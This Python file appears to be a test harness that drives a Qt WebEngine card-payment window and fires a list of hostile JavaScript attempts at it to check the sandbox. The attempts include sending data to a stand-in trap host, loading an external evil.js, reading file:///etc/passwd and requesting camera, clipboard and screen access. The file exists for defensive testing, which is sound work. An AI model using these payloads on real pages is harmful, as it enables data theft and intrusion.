"""A card window whose page turns hostile, in a process of its own; tells what came of each try.

One line of JSON in: the request, the trap's address, and what is left on: `policy` (the page's
own Content-Security-Policy) and `allow_list` (the window's). One line out for each try.
"""

import json
import os
import sys
from collections.abc import Callable
from typing import Any

import desktop.card_entry as helper

helper.scrub(os.environ)
if hasattr(os, "geteuid") and os.geteuid() == 0:
    os.environ["QTWEBENGINE_DISABLE_SANDBOX"] = "1"
os.environ["QTWEBENGINE_CHROMIUM_FLAGS"] = "--disable-gpu"

from PySide6.QtCore import QMimeData, QObject, QPoint, QPointF, Qt, QTimer, QUrl, Slot  # noqa: E402
from PySide6.QtGui import QDesktopServices, QDropEvent  # noqa: E402
from PySide6.QtTest import QTest  # noqa: E402
from PySide6.QtWebEngineCore import QWebEngineDownloadRequest  # noqa: E402
from PySide6.QtWidgets import QApplication  # noqa: E402

from services.cards.entry import CardRequest  # noqa: E402
from ui.cards.card_page import PAGE_URL, page_html  # noqa: E402
from ui.cards.card_window import CardWindow  # noqa: E402

HEAR = """
window.seen = [];
document.addEventListener('securitypolicyviolation', (e) => window.seen.push(e.violatedDirective));
"""
CLICK = "const a = document.createElement('a'); document.body.append(a); "
TRIES = {
    "window.open": "window.open('{trap}/open')",
    "window.open named": "window.open('{trap}/open', 'other', 'width=300')",
    "location": "location.href = '{trap}/location'",
    "location.replace": "location.replace('{trap}/replace')",
    "reload": "location.reload()",
    "own address": "location.href = 'https://terminal.localhost/'",
    "data": "location.href = 'data:text/html,<h1>card</h1>'",
    "javascript": "location.href = 'javascript:document.title=1'",
    "blob": "location.href = URL.createObjectURL(new Blob(['x'], {{type: 'text/html'}}))",
    "file": "location.href = 'file:///etc/passwd'",
    "view-source": "location.href = 'view-source:{trap}/source'",
    "chrome": "location.href = 'chrome://gpu'",
    "mailto": "location.href = 'mailto:ladron@example.com'",
    "tel": "location.href = 'tel:022555555'",
    "link": CLICK + "a.href = '{trap}/link'; a.click()",
    "link blank": CLICK + "a.href = '{trap}/blank'; a.target = '_blank'; a.click()",
    "link mailto": CLICK + "a.href = 'mailto:ladron@example.com'; a.click()",
    "download": CLICK + "a.href = 'data:text/plain,x'; a.download = 'x.txt'; a.click()",
    "download trap": CLICK + "a.href = '{trap}/x.zip'; a.download = 'x.zip'; a.click()",
    "form": "const f = document.createElement('form'); f.method = 'post'; f.action = '{trap}/form';"
    " document.body.append(f); f.submit()",
    "form blank": "const f = document.createElement('form'); f.action = '{trap}/form';"
    " f.target = '_blank'; document.body.append(f); f.submit()",
    "meta refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
    " m.content = '0;url={trap}/meta'; document.head.append(m)",
    "frame": "const f = document.createElement('iframe'); f.src = '{trap}/frame';"
    " document.body.append(f)",
    "frame file": "const f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
    " document.body.append(f)",
    "image": "new Image().src = '{trap}/image'",
    "fetch": "fetch('{trap}/fetch').catch(() => 0)",
    "beacon": "navigator.sendBeacon('{trap}/beacon', 'x')",
    "socket": "new WebSocket('{trap}/socket'.replace('http', 'ws'))",
    "event source": "new EventSource('{trap}/events')",
    "script": "const s = document.createElement('script'); s.src = '{trap}/evil.js';"
    " document.body.append(s)",
    "inline script": "const s = document.createElement('script'); s.text = 'window.owned = 1';"
    " document.body.append(s)",
    "inline handler": "document.body.setAttribute('onclick', 'window.owned = 1');"
    " document.body.click()",
    "eval": "eval('window.owned = 1')",
    "style": "const s = document.createElement('style');"
    " s.textContent = '@import url({trap}/style.css)'; document.head.append(s)",
    "base": "const b = document.createElement('base'); b.href = '{trap}/';"
    " document.head.append(b); fetch('relative').catch(() => 0)",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch';"
    " l.href = '{trap}/prefetch'; document.head.append(l)",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => window.owned = 1, () => 0)",
    "notification": "Notification.requestPermission().then((p) => p == 'granted'"
    " && (window.owned = 1))",
    "camera": "navigator.mediaDevices.getUserMedia({{video: true}}).then(() => window.owned = 1,"
    " () => 0)",
    "screen": "navigator.mediaDevices.getDisplayMedia().then(() => window.owned = 1, () => 0)",
    "clipboard": "navigator.clipboard.readText().then(() => window.owned = 1, () => 0)",
    "alert": "alert('x')",
    "confirm": "if (confirm('x')) window.owned = 1",
    "prompt": "if (prompt('x') !== null) window.owned = 1",
    "print": "window.print()",
    "file chooser": "const i = document.createElement('input'); i.type = 'file';"
    " document.body.append(i); i.click()",
    "protocol handler": "navigator.registerProtocolHandler('web+x', '{trap}/%s')",
    "close": "window.close()",
}
WAIT_MS = 120


class Outside(QObject):
    """Counts what would have left for another program."""

    def __init__(self) -> None:
        super().__init__()
        self.opened = 0

    @Slot(QUrl)
    def take(self, _url: QUrl) -> None:
        self.opened += 1


class Attack(QObject):
    """Tries one thing after the other in the page of a card window that is ready."""

    def __init__(self, window: CardWindow, trap: str, told: Callable[[dict[str, Any]], None]):
        super().__init__()
        self._window = window
        self._trap = trap
        self._told = told
        self._outside = Outside()
        self._downloads: list[QWebEngineDownloadRequest] = []
        for scheme in ("mailto", "tel", "http", "https", "file"):
            # The library takes a name here; its stub asks for bytes, which it refuses.
            QDesktopServices.setUrlHandler(scheme, self._outside, "take")  # type: ignore[arg-type]
        window.profile.downloadRequested.connect(self._downloads.append)
        self._left = list(TRIES.items())
        self._windows = len(QApplication.topLevelWidgets())

    def begin(self) -> None:
        QDesktopServices.openUrl(QUrl("mailto:prueba@example.com"))
        if self._outside.opened != 1:
            raise RuntimeError("what leaves for another program is not counted")
        self._outside.opened = 0
        self._window.page.runJavaScript(HEAR)
        self._next()

    def _next(self) -> None:
        if not self._left:
            self._by_hand()
            return
        name, script = self._left.pop(0)
        told = script.format(trap=self._trap)
        # A user's gesture, such as a real click gives, lets pages do more.
        self._window.page.runJavaScript(f"{{ {told} }}", 0, lambda _: None)
        QTimer.singleShot(WAIT_MS, self, lambda: self._tell(name))

    def _by_hand(self) -> None:
        view = self._window.view
        target = view.focusProxy() or view
        mime = QMimeData()
        mime.setUrls([QUrl(f"{self._trap}/drop"), QUrl("file:///etc/passwd")])
        mime.setText("4242")
        for widget in (view, target):
            drop = QDropEvent(
                QPointF(20, 20),
                Qt.DropAction.CopyAction,
                mime,
                Qt.MouseButton.LeftButton,
                Qt.KeyboardModifier.NoModifier,
            )
            QApplication.sendEvent(widget, drop)
        control, shift = Qt.KeyboardModifier.ControlModifier, Qt.KeyboardModifier.ShiftModifier
        for key, modifiers in (
            (Qt.Key.Key_P, control),
            (Qt.Key.Key_U, control),
            (Qt.Key.Key_S, control),
            (Qt.Key.Key_N, control),
            (Qt.Key.Key_R, control),
            (Qt.Key.Key_I, control | shift),
            (Qt.Key.Key_F5, Qt.KeyboardModifier.NoModifier),
            (Qt.Key.Key_Menu, Qt.KeyboardModifier.NoModifier),
        ):
            QTest.keyClick(target, key, modifiers)
        QTest.mouseClick(target, Qt.MouseButton.RightButton, pos=QPoint(30, 30))
        QTimer.singleShot(3 * WAIT_MS, self, lambda: self._tell("by hand", is_last=True))

    def _tell(self, name: str, *, is_last: bool = False) -> None:
        def asked(state: object) -> None:
            self._told(
                {
                    "try": name,
                    "url": self._window.page.url().toString(),
                    "page": json.loads(str(state)) if state else None,
                    "refused": self._window.page.refused,
                    "blocked": self._window.allowed.refused,
                    "downloads": [download.state().name for download in self._downloads],
                    "left": self._outside.opened,
                    "windows": len(QApplication.topLevelWidgets()) - self._windows,
                    "popup": QApplication.activePopupWidget() is not None,
                }
            )
            if is_last:
                QApplication.exit(0)
            else:
                self._next()

        state = (
            "JSON.stringify({owned: window.owned || 0, seen: window.seen || [],"
            " phase: window.ventanilla ? window.ventanilla.state.phase : ''})"
        )
        self._window.page.runJavaScript(state, 0, asked)


def main() -> int:
    given = json.loads(sys.stdin.readline())
    request = CardRequest(**given["request"])
    app = QApplication(sys.argv[:1])

    def say(told: dict[str, Any]) -> None:
        print(json.dumps(told), flush=True)

    def answered(told: dict[str, Any]) -> None:
        say({"answered": told})
        app.exit(3)

    window = CardWindow(request, answered)
    if not given["policy"]:
        html = page_html(request.script).replace("Content-Security-Policy", "x-none")
        setattr(  # noqa: B010 - the one way mypy lets pass
            window.page, "show_form", lambda _script: _show(window, html)
        )
    if not given["allow_list"]:
        window.profile.setUrlRequestInterceptor(None)  # type: ignore[arg-type]
    attack = Attack(window, given["trap"], say)
    ready = QTimer(window)

    def look() -> None:
        if window.message.text() == "" and not window.pay_button.isEnabled():
            ready.stop()
            attack.begin()

    ready.timeout.connect(look)
    ready.start(100)
    window.open()
    return app.exec()


def _show(window: CardWindow, html: str) -> None:
    window.page._is_ours = True
    window.page.setHtml(html, QUrl(PAGE_URL))


if __name__ == "__main__":
    sys.exit(main())
